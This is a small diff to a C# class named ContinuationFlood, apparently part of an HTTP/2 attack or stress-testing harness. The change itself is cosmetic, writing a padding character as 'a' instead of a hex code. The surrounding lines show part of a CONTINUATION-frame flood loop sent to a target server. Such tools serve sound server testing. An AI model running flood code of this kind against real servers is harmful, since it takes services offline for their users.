@@ -12,7 +12,7 @@ internal sealed class ContinuationFlood : Attack
 
     public override Task RunAsync(Target target) => target.OnManyAsync(4, async peer =>
     {
-        byte[] lines = RawHpack.Encode(Enumerable.Range(0, 100).Select(i => ($"x-{i}", new string((char)0x61, 100))));
+        byte[] lines = RawHpack.Encode(Enumerable.Range(0, 100).Select(i => ($"x-{i}", new string('a', 100))));
         int stream = peer.NextStream();
         await peer.WriteAsync(Frame(HeadersFrame, 0, stream, RawHpack.Encode(Peer.Call())));
         for (int i = 0; i < target.Count(200, 20_000) && !peer.Gone; i++)
